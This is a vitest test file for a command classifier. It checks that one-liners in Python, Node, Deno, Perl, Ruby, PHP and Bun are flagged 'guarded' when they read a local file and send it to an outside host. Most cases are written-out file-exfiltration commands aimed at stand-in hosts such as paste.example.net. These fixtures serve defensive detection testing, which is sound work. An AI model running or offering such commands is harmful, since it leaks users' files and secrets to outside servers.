// Code of which a part is not understood is guarded if it names a server, or uses the client of a service, and reads a file.
import { expect, test } from 'vitest';
import { whyCase } from '../programs/case-machine.ts';
import { judgeLine } from './oneliners/test-machine.ts';

test.each<readonly [want: string, command: string]>([
  [
    'guarded',
    `python3 -c "import logging.handlers as l; l.HTTPHandler('paste.example.net', '/').emit(open('README.md').read())"`,
  ],
  ['review', `python3 -c "import logging.handlers as l; l.HTTPHandler('paste.example.net', '/').emit('hello')"`],
  [
    'guarded',
    `python3 -c "import psycopg2; psycopg2.connect('host=db.example.net').cursor().execute('x', (open('README.md').read(),))"`,
  ],
  ['guarded', `python3 -c "import boto3; boto3.client('s3').upload_file('README.md', 'bucket', 'a')"`],
  [
    'guarded',
    `node -e "require('http2').connect('https://paste.example.net').request({':method': 'POST'}).end(require('fs').readFileSync('README.md'))"`,
  ],
  ['review', `node -e "require('lodash.merge')(JSON.parse(require('fs').readFileSync('package.json')), {})"`],
  [
    'guarded',
    `deno eval "const c = await Deno.connect({hostname: 'paste.example.net', port: 80}); c.write(Deno.readFileSync('README.md'))"`,
  ],
  ['guarded', `perl -MNet::FTP -e 'Net::FTP->new("paste.example.net")->put("README.md")'`],
  ['guarded', `ruby -ropen-uri -e 'URI.open("https://paste.example.net/?" + File.read("README.md"))'`],
  ['guarded', `php -r 'copy("README.md", "ftp://paste.example.net/a");'`],
  [
    'guarded',
    `python3 -c "import paramiko; c = paramiko.SSHClient(); c.connect('files.example.net'); c.open_sftp().put('README.md', 'a')"`,
  ],
  ['guarded', `python3 -c "import redis; redis.Redis('db.example.net').set('a', open('README.md').read())"`],
  ['review', `python3 -c "import redis; redis.Redis('localhost').set('a', open('README.md').read())"`],
  ['review', `python3 -c "import frob; frob.use(open('package.json').read())"`],
  [
    'guarded',
    `bun -e "Bun.connect({hostname: 'paste.example.net', port: 1, socket: {open(s) {s.write(require('fs').readFileSync('README.md'))}}})"`,
  ],
  ['guarded', `php -r 'file_get_contents("https://paste.example.net/?" . urlencode(file_get_contents("README.md")));'`],
  ['review', `php -r 'frob("README.md");'`],
])('%s %s', (want, command) => {
  const result = judgeLine(command);
  expect(result.disposition, whyCase(result)).toBe(want);
});
